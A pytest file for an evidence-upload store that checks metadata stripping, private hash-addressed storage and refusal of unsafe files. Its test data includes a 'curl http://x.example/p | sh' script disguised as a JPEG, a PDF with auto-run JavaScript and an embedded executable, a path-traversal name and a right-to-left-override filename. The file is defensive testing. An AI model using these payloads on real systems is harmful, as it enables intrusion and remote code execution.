"""Evidence uploads: judged by their bytes, bounded while read, stored as clean copies by hash."""

from __future__ import annotations

import hashlib
import io
import os
import stat
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from flask import Flask
from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from weasyprint import HTML

from outreach.config import ConfigError
from outreach.i18n import for_person_language
from outreach.reports.evidence import (
    CHUNK_SIZE,
    EvidenceRejected,
    EvidenceStore,
    StoredEvidence,
    safe_name,
)
from tests.reports.conftest import PHONE_MODEL, phone_exif, photo, stored_files


class CountingStream:
    """An upload of ``size`` bytes made as it is read (nothing buffered), counting what was read."""

    def __init__(self, size: int, head: bytes = b"\xff\xd8\xff\xe0") -> None:
        self.size = size
        self.head = head
        self.read_bytes = 0

    def read(self, n: int = -1, /) -> bytes:
        if n < 0:
            n = self.size - self.read_bytes  # a reader that asks for everything would get 50 MB here
        n = min(n, self.size - self.read_bytes)
        chunk = (self.head if self.read_bytes == 0 else b"") + b"\x00" * n
        chunk = chunk[:n]
        self.read_bytes += len(chunk)
        return chunk


def accept(store: EvidenceStore, data: bytes, name: str, declared_type: str | None = None) -> StoredEvidence:
    return store.accept(io.BytesIO(data), declared_name=name, declared_type=declared_type)


def test_a_phone_jpeg_is_stored_upright_without_exif_or_gps(store: EvidenceStore) -> None:
    # Orientation 6: the phone was held upright, the pixels lie on their side.
    original = photo(640, 480, exif=phone_exif(orientation=6))
    assert PHONE_MODEL.encode() in original  # the test file does carry what must go

    record = accept(store, original, "IMG_2041.JPG", "image/jpeg")

    stored = store.path_of(record).read_bytes()
    assert record.media_type == "image/jpeg" and record.original_type == "image/jpeg"
    assert record.original_sha256 == hashlib.sha256(original).hexdigest()
    assert record.original_size == len(original)
    assert record.sha256 == hashlib.sha256(stored).hexdigest() != record.original_sha256
    assert record.size == len(stored)
    assert record.original_name == "IMG_2041.jpg"
    assert record.declared_type == "image/jpeg"
    assert {"gps", "exif"} <= set(record.removed_metadata)
    # Nothing of the EXIF block survives: no GPS directory, no phone model, no Exif marker at all.
    assert b"Exif\x00\x00" not in stored and PHONE_MODEL.encode() not in stored
    with Image.open(store.path_of(record)) as im:
        assert im.format == "JPEG"
        assert dict(im.getexif()) == {} and not im.getexif().get_ifd(0x8825)
        assert (im.width, im.height) == (480, 640) == (record.width, record.height)  # turned upright


def test_stored_files_are_private_and_content_addressed(store: EvidenceStore, evidence_app: Flask) -> None:
    record = accept(store, photo(), "a.jpg")
    path = store.path_of(record)
    assert record.stored_path == f"sha256/{record.sha256[:2]}/{record.sha256[2:4]}/{record.sha256}"
    assert path == store.root / record.stored_path
    assert stat.S_IMODE(path.stat().st_mode) == 0o400
    for folder in (store.root, path.parent, store.root / "tmp"):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert evidence_app.static_folder is not None
    assert not path.is_relative_to(Path(evidence_app.static_folder).resolve())
    assert store.verify(record)
    # The same photo sent twice is stored once.
    again = accept(store, photo(), "b.jpg")
    assert again.stored_path == record.stored_path and len(stored_files(store)) == 1
    # Nothing of the upload is left behind in the temporary folder.
    assert list((store.root / "tmp").iterdir()) == []


def test_verify_notices_a_changed_file(store: EvidenceStore) -> None:
    record = accept(store, photo(), "a.jpg")
    path = store.path_of(record)
    path.chmod(0o600)
    path.write_bytes(path.read_bytes() + b"x")
    assert not store.verify(record)


def test_a_png_screenshot_keeps_its_format_and_loses_its_text_chunks(store: EvidenceStore) -> None:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "rescuer Kim, Sihanoukville")
    original = photo(320, 200, fmt="PNG", pnginfo=info)

    record = accept(store, original, "screenshot.png", "image/png")

    assert record.media_type == "image/png" and "text" in record.removed_metadata
    stored = store.path_of(record).read_bytes()
    assert b"rescuer Kim" not in stored
    with Image.open(store.path_of(record)) as im:
        assert im.format == "PNG" and (im.width, im.height) == (320, 200)


def test_an_iphone_heic_photo_is_stored_as_jpeg_without_gps(store: EvidenceStore) -> None:
    original = photo(400, 300, fmt="HEIF", exif=phone_exif().tobytes())

    record = accept(store, original, "IMG_0001.HEIC", "image/heic")

    assert record.original_type == "image/heic" and record.media_type == "image/jpeg"
    assert record.original_name == "IMG_0001.jpg"
    assert "gps" in record.removed_metadata
    with Image.open(store.path_of(record)) as im:
        assert im.format == "JPEG" and not im.getexif().get_ifd(0x8825)


def test_a_webp_image_is_stored_as_jpeg(store: EvidenceStore) -> None:
    record = accept(store, photo(300, 200, fmt="WEBP"), "chat-image.webp")
    assert record.original_type == "image/webp" and record.media_type == "image/jpeg"
    with Image.open(store.path_of(record)) as im:
        assert im.format == "JPEG"


def test_a_pdf_is_rebuilt_without_metadata_scripts_or_attachments(store: EvidenceStore) -> None:
    scan = HTML(string="<p>Passport scan: KIM MINSU M12345678</p>").write_pdf()
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(scan)))
    writer.add_metadata({"/Author": "Rescuer Kim", "/Title": "passport"})
    # A script that runs when the PDF opens, and one on the page.
    script = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('hello');"),
        }
    )
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(script)
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(script)})
    writer.add_attachment("payload.exe", b"MZ" + b"\x00" * 100)
    out = io.BytesIO()
    writer.write(out)
    original = out.getvalue()

    record = accept(store, original, "passport.pdf", "application/pdf")

    assert record.media_type == "application/pdf" and record.pages == 1
    assert record.original_sha256 == hashlib.sha256(original).hexdigest()
    assert {"pdf_info", "pdf_actions", "pdf_attachments"} <= set(record.removed_metadata)
    stored = PdfReader(store.path_of(record))
    catalog = stored.trailer["/Root"].get_object()
    assert "/Names" not in catalog and "/OpenAction" not in catalog
    assert "/AA" not in stored.pages[0]
    assert not stored.metadata
    raw = store.path_of(record).read_bytes()
    assert b"Rescuer Kim" not in raw and b"app.alert" not in raw
    assert "KIM MINSU" in stored.pages[0].extract_text()  # the content itself is all there


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("photo.jpg", photo())
    return out.getvalue()


PE = b"MZ\x90\x00\x03" + b"\x00" * 55 + b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\x00\x00" + b"\x00" * 200


@pytest.mark.parametrize(
    ("name", "data", "code", "disguised", "words"),
    [
        ("photo.jpg", Path("/bin/true").read_bytes(), "executable", True, "program"),  # ELF
        ("setup.exe", PE, "executable", False, "program"),
        ("photo.jpg", b"#!/bin/sh\ncurl http://x.example/p | sh\n", "text", True, "script"),
        ("page.html", b"<!doctype html><html><script>alert(1)</script></html>", "text", False, "web page"),
        (
            "map.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "text",
            False,
            "SVG",
        ),
        ("photos.zip", zip_bytes(), "archive", False, "archive"),
        (
            "clip.mp4",
            b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 64,
            "not_accepted",
            False,
            "not accepted",
        ),
        ("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"garbage" * 20, "unreadable", False, "damaged"),
        ("empty.jpg", b"", "empty", False, "empty"),
    ],
    ids=["elf-named-jpg", "pe", "script-named-jpg", "html", "svg", "zip", "video", "broken-jpeg", "empty"],
)
def test_anything_but_a_photo_or_pdf_is_refused_with_a_reason(
    store: EvidenceStore, name: str, data: bytes, code: str, disguised: bool, words: str
) -> None:
    with pytest.raises(EvidenceRejected) as refused:
        accept(store, data, name, "image/jpeg")
    assert refused.value.code == code
    assert refused.value.disguised is disguised
    with for_person_language("en"):
        assert words in str(refused.value)
        if disguised:
            assert "Its name ends in .jpg, but its content is not one." in str(refused.value)
    assert stored_files(store) == [] and list((store.root / "tmp").iterdir()) == []


def test_a_refusal_reads_in_the_uploaders_language(store: EvidenceStore) -> None:
    with pytest.raises(EvidenceRejected) as refused:
        accept(store, Path("/bin/true").read_bytes(), "사진.jpg")
    with for_person_language("ko"):
        assert "프로그램" in str(refused.value)
    with for_person_language("km"):
        assert "កម្មវិធី" in str(refused.value)


def test_a_50_mb_upload_is_refused_without_reading_it_all(store: EvidenceStore) -> None:
    assert store.max_bytes == 15 * 1024 * 1024  # EVIDENCE_MAX_BYTES' default
    upload = CountingStream(50 * 1024 * 1024)
    tracemalloc.start()
    try:
        with pytest.raises(EvidenceRejected) as refused:
            store.accept(upload, declared_name="big.jpg")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert refused.value.code == "too_large" and "15 MB" in str(refused.value)  # said in Korean by default
    assert upload.read_bytes == store.max_bytes + 1  # one byte past the limit, never the 50 MB
    assert peak < 4 * CHUNK_SIZE  # a chunk at a time, never the body
    assert stored_files(store) == [] and list((store.root / "tmp").iterdir()) == []


def test_a_declared_size_over_the_limit_is_refused_before_reading(store: EvidenceStore) -> None:
    upload = CountingStream(50 * 1024 * 1024)
    with pytest.raises(EvidenceRejected) as refused:
        store.accept(upload, declared_name="big.jpg", declared_size=50 * 1024 * 1024)
    assert refused.value.code == "too_large" and upload.read_bytes == 0


def test_a_file_of_exactly_the_limit_is_accepted(evidence_app: Flask, tmp_path: Path) -> None:
    data = photo(200, 150)
    small = EvidenceStore(tmp_path / "small", max_bytes=len(data))
    assert small.accept(io.BytesIO(data), declared_name="a.jpg").original_size == len(data)
    with pytest.raises(EvidenceRejected):
        EvidenceStore(tmp_path / "smaller", max_bytes=len(data) - 1).accept(
            io.BytesIO(data), declared_name="a.jpg"
        )


def test_an_image_of_huge_dimensions_is_refused_before_it_is_decoded(store: EvidenceStore) -> None:
    out = io.BytesIO()
    Image.new("1", (8000, 8000)).save(out, "PNG")  # 64 megapixels in a few kilobytes
    assert len(out.getvalue()) < 100_000
    with pytest.raises(EvidenceRejected) as refused:
        accept(store, out.getvalue(), "bomb.png")
    assert refused.value.code == "too_many_pixels"


@pytest.mark.parametrize(
    ("given", "extension", "expected"),
    [
        ("../../etc/passwd", "jpg", "passwd.jpg"),
        ("C:\\Users\\kim\\여권 사본.HEIC", "jpg", "여권 사본.jpg"),
        ("photo\u202egpj.exe", "jpg", "photogpj.jpg"),  # a right-to-left override that hid ".exe"
        ("ថតរូប.png", "png", "ថតរូប.png"),
        ('a<b>:"c|?*.pdf', "pdf", "a_b___c.pdf"),
        (None, "jpg", "file.jpg"),
        ("....", "pdf", "file.pdf"),
    ],
)
def test_file_names_are_made_safe(given: str | None, extension: str, expected: str) -> None:
    assert safe_name(given, extension) == expected


def test_the_evidence_folder_may_not_be_under_the_web_root(evidence_app: Flask) -> None:
    assert evidence_app.static_folder is not None
    config = {**evidence_app.config, "EVIDENCE_DIR": os.path.join(evidence_app.static_folder, "evidence")}
    with pytest.raises(RuntimeError, match="web root"):
        EvidenceStore.from_app(config, static_folder=evidence_app.static_folder)


def test_the_default_evidence_folder_is_in_the_instance_folder(make_app: Callable[..., Flask]) -> None:
    app = make_app()
    assert app.config["EVIDENCE_DIR"] == os.path.join(app.instance_path, "evidence")


def test_a_size_limit_that_cannot_work_stops_start_up(make_app: Callable[..., Flask]) -> None:
    with pytest.raises(ConfigError, match="EVIDENCE_MAX_BYTES"):
        make_app(EVIDENCE_MAX_BYTES=0)
